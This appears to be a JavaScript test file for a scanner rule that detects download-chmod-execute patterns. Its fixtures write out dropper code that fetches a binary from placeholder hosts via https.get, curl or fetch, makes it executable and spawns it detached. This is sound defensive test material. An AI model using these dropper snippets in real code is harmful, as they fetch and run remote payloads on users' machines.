import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const dropper = [
  "const https = require('https');",
  "const fs = require('fs');",
  "const { spawn } = require('child_process');",
  "const file = require('os').tmpdir() + '/svc';",
  "https.get('https://cdn.example.invalid/svc', (res) => {",
  '  res.pipe(fs.createWriteStream(file)).on(\'finish\', () => {',
  '    fs.chmodSync(file, 0o755);',
  "    spawn(file, [], { detached: true, stdio: 'ignore' }).unref();",
  '  });',
  '});',
].join('\n');

testRule(rule, {
  valid: [
    { name: 'download and exec without chmod', code: "const https = require('https');\nconst { execSync } = require('child_process');\nhttps.get(u, () => execSync('tar xzf a.tgz'));" },
    { name: 'chmod of a local script, no download', code: "const fs = require('fs');\nconst { execFileSync } = require('child_process');\nfs.chmodSync('./bin/cli.js', 0o755);\nexecFileSync('./bin/cli.js', ['--version']);" },
    { name: 'chmod to read-only', code: "const fs = require('fs');\nconst https = require('https');\nconst cp = require('child_process');\nhttps.get(u);\nfs.chmodSync(f, 0o644);\ncp.exec('ls');" },
    { name: 'download verified against a pinned hash (esbuild style)', code: `${dropper}\nconst ok = require('crypto').createHash('sha256').update(buf).digest('hex') === expected;` },
  ],
  invalid: [
    { name: 'download, chmod 0o755, spawn', code: dropper, errors: [{ message: /downloads \(line 5\), makes a file executable \(here\) and starts a process \(line 8\)/, line: 7 }] },
    { name: 'shell download, chmod +x, exec', code: "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o /tmp/x https://x.example.invalid/x');\nexecSync('chmod +x /tmp/x');\nexecSync('/tmp/x');", errors: [{ line: 3 }] },
    { name: 'fetch + writeFileSync with mode', code: "import { writeFileSync } from 'node:fs';\nimport { execFile } from 'node:child_process';\nconst r = await fetch('https://x.example.invalid/bin');\nwriteFileSync('/tmp/b', Buffer.from(await r.arrayBuffer()), { mode: 0o755 });\nexecFile('/tmp/b');", path: 'index.mjs', errors: [{ line: 4 }] },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
